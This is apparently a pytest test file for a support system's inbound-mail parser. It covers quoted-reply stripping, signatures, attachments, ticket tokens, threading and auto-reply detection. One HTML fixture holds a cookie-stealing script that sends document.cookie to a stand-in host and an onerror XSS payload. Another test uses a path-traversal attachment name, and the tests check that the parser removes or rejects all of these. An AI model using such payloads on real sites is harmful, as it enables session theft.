"""Parsing inbound mail: the new text of real clients' replies, threads, tokens, files, machines and bad input."""

from __future__ import annotations

from email.message import EmailMessage

import pytest

from api.mail_in import MailRejected, parse_inbound, thread_keys

LIMITS = dict(max_bytes=1024 * 1024, max_attachment_bytes=64 * 1024)


def make_mail(body: str = "Hello", *, subject: str = "Printer jams", sender: str = "Alice Example <Alice@Example.COM>",
              to: str = "support@ccr.localhost", headers: dict[str, str] | None = None) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = "Mon, 03 Jun 2024 10:00:00 +0000"
    msg["Message-ID"] = "<m1@example.com>"
    for name, value in (headers or {}).items():
        msg[name] = value
    msg.set_content(body)
    return msg


def parse(msg: EmailMessage | bytes, **kw):
    raw = msg if isinstance(msg, bytes) else msg.as_bytes()
    return parse_inbound(raw, **{**LIMITS, **kw})


GMAIL = """Thanks, the reset worked!

One more thing: the invoice shows my old address.

On Mon, 3 Jun 2024 at 10:00, Customer Care <support+CCR-7K3M9Q2X@ccr.localhost>
wrote:

> Hello Alice,
>
> please reset your password with the link below.
>
> Kind regards,
> Customer Care
"""

OUTLOOK = """The printer still jams on page two.

________________________________
From: Customer Care <support@ccr.localhost>
Sent: Monday, June 3, 2024 10:00 AM
To: Bob Smith <bob@example.com>
Subject: [CCR-7K3M9Q2X] Re: Printer jams

Hello Bob, please clean the rollers.
"""

OUTLOOK_CLASSIC = """Cleaning the rollers helped.

-----Original Message-----
From: Customer Care [mailto:support@ccr.localhost]
Sent: Monday, June 3, 2024 10:00 AM
Subject: Re: Printer jams

Please clean the rollers.
"""

APPLE = """Sounds good, I will try that tonight.

Sent from my iPhone

> On 3 Jun 2024, at 10:00, Customer Care <support@ccr.localhost> wrote:
>
> Please clean the rollers.
"""

BOTTOM_POSTED = """On Mon, Jun 3, 2024 at 10:00 AM Customer Care <support@ccr.localhost> wrote:
> Which model is it?

It is the LaserJet 4000.
"""


@pytest.mark.parametrize(("body", "new_text", "old_text"), [
    (GMAIL, "Thanks, the reset worked!\n\nOne more thing: the invoice shows my old address.",
     "please reset your password"),
    (OUTLOOK, "The printer still jams on page two.", "please clean the rollers"),
    (OUTLOOK_CLASSIC, "Cleaning the rollers helped.", "Please clean the rollers"),
    (APPLE, "Sounds good, I will try that tonight.", "Please clean the rollers"),
    (BOTTOM_POSTED, "It is the LaserJet 4000.", "Which model is it?"),
], ids=["gmail", "outlook-web", "outlook-classic", "apple-mail", "bottom-posted"])
def test_quoted_history_is_stripped_from_text_but_kept_in_full_text(body, new_text, old_text):
    mail = parse(make_mail(body))
    assert mail.text == new_text
    assert old_text in mail.full_text
    assert mail.problems == []


@pytest.mark.parametrize("body", [
    "The export fails with error 0x80070005.\n\n-- \nJane Doe\nHead of IT, Acme Ltd.\n+44 20 7946 0000\n",
    "The export fails with error 0x80070005.\n\nBest regards,\nJane Doe\nAcme Ltd.\n",
    "The export fails with error 0x80070005.\n\nThanks,\nJane\n",
])
def test_signatures_and_sign_offs_are_stripped(body):
    assert parse(make_mail(body)).text == "The export fails with error 0x80070005."


def test_a_mail_that_is_only_thanks_keeps_its_thanks():
    assert parse(make_mail("Thanks!\n")).text == "Thanks!"


def test_only_quoted_text_keeps_the_history_and_says_so():
    mail = parse(make_mail("> On Monday you wrote:\n> Please clean the rollers.\n"))
    assert mail.text == ""
    assert "Please clean the rollers." in mail.full_text
    assert "no new text; the quoted history was kept" in mail.problems


def test_html_only_mail_drops_scripts_styles_and_quoted_history():
    html = """<html><head><title>ignored</title><style>p {color: red}</style></head><body>
    <p>My order <b>#4411</b> never arrived &amp; nobody answers.</p>
    <script>fetch('https://evil.example/?c=' + document.cookie)</script>
    <img src=x onerror="alert(1)">
    <div class="gmail_quote">On Mon, 3 Jun 2024 at 10:00, Customer Care wrote:<br>
    <blockquote>Your order has shipped.</blockquote></div>
    </body></html>"""
    msg = make_mail()
    msg.set_content(html, subtype="html")
    mail = parse(msg)
    assert mail.text == "My order #4411 never arrived & nobody answers."
    assert mail.html_text is not None and "> Your order has shipped." in mail.html_text
    for unsafe in ("fetch(", "document.cookie", "alert", "<", "color: red", "ignored"):
        assert unsafe not in mail.full_text


def test_forbidden_and_oversized_attachments_are_listed_and_good_ones_kept():
    msg = make_mail("See the attached files.")
    msg.add_attachment(b"%PDF-1.4 invoice", maintype="application", subtype="pdf", filename="invoice.pdf")
    msg.add_attachment(b"MZ\x90\x00", maintype="application", subtype="octet-stream", filename="setup.exe")
    msg.add_attachment(b"MZ\x90\x00", maintype="application", subtype="pdf", filename="..\\..\\evil.exe")
    msg.add_attachment(b"x" * (LIMITS["max_attachment_bytes"] + 1), maintype="image", subtype="png",
                       filename="huge.png")
    msg.add_attachment(b"\x89PNG screenshot", maintype="application", subtype="octet-stream", filename="error.png")
    mail = parse(msg)
    assert mail.text == "See the attached files."
    kept = {(a.filename, a.content_type, a.data) for a in mail.attachments}
    assert kept == {("invoice.pdf", "application/pdf", b"%PDF-1.4 invoice"),
                    ("error.png", "image/png", b"\x89PNG screenshot")}
    rejected = dict(mail.rejected_attachments)
    assert rejected["setup.exe"] == "forbidden file type (.exe)"
    assert rejected["evil.exe"] == "forbidden file type (.exe)"
    assert rejected["huge.png"].startswith("too big")
    assert sum("was not accepted" in p for p in mail.problems) == 3


def test_plus_address_names_the_concern():
    mail = parse(make_mail(to="Customer Care <support+ccr-7k3m9q2x@ccr.localhost>"))
    assert mail.concern_token == "CCR-7K3M9Q2X"


def test_plus_address_in_the_envelope_or_delivered_to_names_the_concern():
    assert parse(make_mail(), envelope_to=["support+CCR-7K3M9Q2X@ccr.localhost"]).concern_token == "CCR-7K3M9Q2X"
    delivered = make_mail(headers={"Delivered-To": "support+CCR-AB12CD34@ccr.localhost"})
    assert parse(delivered).concern_token == "CCR-AB12CD34"


def test_subject_tag_names_the_concern_but_plain_subject_text_never_does():
    assert parse(make_mail(subject="Re: [CCR-7K3M9Q2X] Printer jams")).concern_token == "CCR-7K3M9Q2X"
    assert parse(make_mail(subject="Re: CCR-7K3M9Q2X Printer jams")).concern_token is None


def test_address_wins_over_a_different_subject_tag_and_the_conflict_is_noted():
    mail = parse(make_mail(subject="Fwd: [CCR-AAAAAAAA] old", to="support+CCR-7K3M9Q2X@ccr.localhost"))
    assert mail.concern_token == "CCR-7K3M9Q2X"
    assert any("CCR-AAAAAAAA" in p for p in mail.problems)


def test_sender_threading_headers_and_thread_keys():
    mail = parse(make_mail(headers={
        "In-Reply-To": "<ccr.CCR-7K3M9Q2X.4@ccr.localhost>",
        "References": "<root@example.com> <ccr.CCR-7K3M9Q2X.2@ccr.localhost> <ccr.CCR-7K3M9Q2X.4@ccr.localhost>",
    }))
    assert (mail.from_email, mail.from_name) == ("alice@example.com", "Alice Example")
    assert mail.message_id == "<m1@example.com>"
    assert thread_keys(mail) == ["<ccr.CCR-7K3M9Q2X.4@ccr.localhost>", "<ccr.CCR-7K3M9Q2X.2@ccr.localhost>",
                                 "<root@example.com>"]


def test_missing_message_id_gets_one_that_survives_redelivery():
    msg = make_mail()
    del msg["Message-ID"]
    first = parse(msg)
    redelivered = parse(b"Received: from relay2.example.net by mx.ccr.localhost\r\n" + msg.as_bytes())
    other = parse(make_mail("Another question"), )
    assert first.message_id.startswith("<") and first.message_id.endswith("@generated.invalid>")
    assert redelivered.message_id == first.message_id
    assert other.message_id != first.message_id


@pytest.mark.parametrize(("headers", "sender", "reason"), [
    ({"Auto-Submitted": "auto-replied"}, "alice@example.com", "Auto-Submitted: auto-replied"),
    ({"Precedence": "bulk"}, "alice@example.com", "Precedence: bulk"),
    ({"X-Autoreply": "yes"}, "alice@example.com", "X-Autoreply header"),
    ({"X-Autorespond": "Out of office"}, "alice@example.com", "X-Autorespond header"),
    ({"List-Id": "<news.example.com>"}, "alice@example.com", "mailing list (List-Id)"),
    ({}, "MAILER-DAEMON@mx.example.com", "sent by mailer-daemon"),
    ({"Return-Path": "<>"}, "alice@example.com", "empty return path (a bounce)"),
    ({"Message-ID": "<ccr.CCR-7K3M9Q2X.3@ccr.localhost>"}, "alice@example.com", "our own message came back"),
])
def test_machine_mail_is_flagged(headers, sender, reason):
    msg = make_mail(sender=sender)
    for name, value in headers.items():
        del msg[name]
        msg[name] = value
    assert reason in (parse(msg).auto_submitted or "")


def test_auto_submitted_no_and_ordinary_mail_are_not_flagged():
    assert parse(make_mail(headers={"Auto-Submitted": "no"})).auto_submitted is None
    assert parse(make_mail(), envelope_from="alice@example.com").auto_submitted is None
    assert parse(make_mail(), envelope_from="").auto_submitted == "empty return path (a bounce)"


def test_oversized_mail_is_refused_with_552():
    with pytest.raises(MailRejected) as refused:
        parse(make_mail("x" * 5000), max_bytes=4000)
    assert refused.value.code == 552 and "limit is 4000" in refused.value.reason


@pytest.mark.parametrize("sender", ["", "not an address", "<>"])
def test_mail_without_a_usable_sender_is_refused_with_550(sender):
    raw = f"From: {sender}\r\nSubject: hi\r\n\r\nbody\r\n".encode()
    with pytest.raises(MailRejected) as refused:
        parse(raw)
    assert refused.value.code == 550


def test_a_message_that_cannot_be_parsed_is_kept_raw_with_its_problems():
    raw = (b"From: Carol <carol@example.com>\r\nSubject: broken\r\nMessage-ID: <[\r\n"
           b"Content-Type: multipart/mixed\r\n\r\n--nobody-knows\r\nMy account is locked, please help.\r\n")
    mail = parse(raw)
    assert mail.raw == raw
    assert mail.from_email == "carol@example.com"
    assert "My account is locked, please help." in mail.full_text
    assert "malformed message: NoBoundaryInMultipartDefect" in mail.problems


def test_an_unknown_charset_is_decoded_as_best_we_can_and_noted():
    raw = (b"From: dave@example.com\r\nSubject: hi\r\nContent-Type: text/plain; charset=x-klingon\r\n\r\n"
           b"The app crashes on start.\r\n")
    mail = parse(raw)
    assert mail.text == "The app crashes on start."
    assert any("x-klingon" in p for p in mail.problems)


def test_a_forwarded_mail_with_junk_headers_stays_one_attachment_next_to_the_text():
    raw = (b"From: erin@example.com\r\nSubject: Fwd: invoice\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
           b"--B\r\nContent-Type: text/plain\r\n\r\nSee the forwarded mail.\r\n"
           b"--B\r\nContent-Type: message/rfc822\r\n\r\nFrom: shop@example.net\r\nMessage-ID: <[" + b"x" * 100 +
           b"\r\n\r\nYour invoice is attached.\r\n--B--\r\n")
    mail = parse(raw)
    assert mail.text == "See the forwarded mail."
    [forwarded] = mail.attachments
    assert forwarded.content_type == "message/rfc822"
    assert b"Your invoice is attached." in forwarded.data
